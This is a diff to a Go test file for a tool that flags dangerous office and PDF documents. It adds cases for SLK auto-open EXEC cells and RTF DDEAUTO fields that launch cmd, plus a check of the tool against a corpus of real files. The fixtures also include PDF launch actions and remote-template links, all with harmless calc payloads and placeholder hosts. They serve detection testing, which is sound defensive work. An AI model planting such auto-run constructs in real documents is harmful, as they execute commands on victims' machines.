@@ -9,6 +9,8 @@ import (
 	"encoding/binary"
 	"fmt"
 	"hash/crc32"
+	"os"
+	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
@@ -137,6 +139,8 @@ func TestHarms(t *testing.T) {
 		{"a sum", "a.csv", []byte("x,=SUM(A1:A2),-5,+4,@home\n"), ""},
 		{"a feed of prices", "a.csv", []byte("x,=BLP|M!'IBM US Equity,[LAST PRICE]'\n"), ""},
 		{"bars between words", "a.csv", []byte("-a|b!,c|d (e)!,x|y!\n"), ""},
+		{"a table of symbolic links", "a.slk", []byte("ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC(\"calc\")\nE\n"), "auto-sheet"},
+		{"such a table that adds", "a.slk", []byte("ID;P\nC;X1;Y1;K3;ESUM(R1C1:R2C1)\nE\n"), ""},
 		{"a field of DDE", "a.docx", word(t, fieldOf(`DDEAUTO c:\\windows\\cmd.exe "/c calc"`), ""), "dde"},
 		{"a page number", "a.docx", word(t, fieldOf(`PAGE \* MERGEFORMAT`), ""), ""},
 		{"text from a host", "a.docx", word(t, fieldOf(`INCLUDETEXT "http://a.example/x.docx"`), ""), "remote-template"},
@@ -169,6 +173,10 @@ func TestHarms(t *testing.T) {
 		{"an equation that loads by itself", "a.rtf", []byte(`{\rtf1{\object\objemb\objupdate{\*\objclass Equation.3}{\*\objdata 01050000020000000b0000004571756174696f6e2e3300000000000000000004000000aabbccdd}}}`), "equation"},
 		{"an object of another program", "a.rtf", []byte(`{\rtf1{\object\objemb{\*\objclass Paint}{\*\objdata 0105000002000000060000005061696e740000000000000000000004000000aabbccdd}}}`), ""},
 		{"a template of RTF", "a.rtf", []byte(`{\rtf1{\*\template http://a.example/x.dotm}x}`), "remote-template"},
+		{"a field of RTF", "a.rtf", []byte(`{\rtf1{\field{\*\fldinst DDEAUTO cmd "/c calc"}{\fldrslt x}}}`), "dde"},
+		{"a link of RTF", "a.rtf", []byte(`{\rtf1{\field{\*\fldinst HYPERLINK "http://a.example/"}{\fldrslt x}}}`), ""},
+		{"a damaged archive of another name", "a.rar", []byte("\x00\x01\x02\x03 damaged"), "unopened"},
+		{"data that nobody knows", "a.dat", []byte("\x00\x01\x02\x03 damaged"), ""},
 		{"a PDF that launches", "a.pdf", pdfWith("/OpenAction 4 0 R", "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), "launch"},
 		{"a PDF that runs a script", "a.pdf", pdfWith("/OpenAction 4 0 R", "<< /S /JavaScript /JS (app.launchURL\\(\"http://a.example\"\\)) >>"), "open-script"},
 		{"a PDF that sends a form", "a.pdf", pdfWith("", "<< /S /SubmitForm /F << /FS /URL /F (https://a.example/post) >> >>"), "submit-form"},
@@ -185,6 +193,33 @@ func TestHarms(t *testing.T) {
 		if got := harms(r); got != tt.want {
 			t.Errorf("%s: %q, want %q (%s, notes %v)", tt.name, got, tt.want, r.Files[0].Format, r.Notes)
 		}
+	}
+}
+
+// TestHarmsOfRealDocuments looks at documents of a corpus of readers, most of which are honest.
+func TestHarmsOfRealDocuments(t *testing.T) {
+	t.Parallel()
+	want := map[string]string{
+		"protectedFile.xlsx": "known-password", "testEXCEL_macro.xlsm": "macro", "testWORD_macros.doc": "macro", "testODTMacro.odt": "macro", "testODTMacro.fodt": "macro",
+		"testEXCEL_protected_passtika.xls": "locked", "testWORD.docx": "", "testEXCEL.xlsx": "", "testPPT.pptx": "", "testODFwithOOo3.odt": "", "testEXCEL_5.xls": "", "testRTF.rtf": "", "testPDF.pdf": "",
+	}
+	seen := 0
+	for _, path := range corpus(t, "att_tika_archives_office") {
+		expected, ok := want[filepath.Base(path)]
+		if !ok {
+			continue
+		}
+		data, err := os.ReadFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		seen++
+		if got := harms(inspect(path, data)); got != expected {
+			t.Errorf("%s: %q, want %q", filepath.Base(path), got, expected)
+		}
+	}
+	if seen < 5 {
+		t.Errorf("only %d documents", seen)
 	}
 }
 
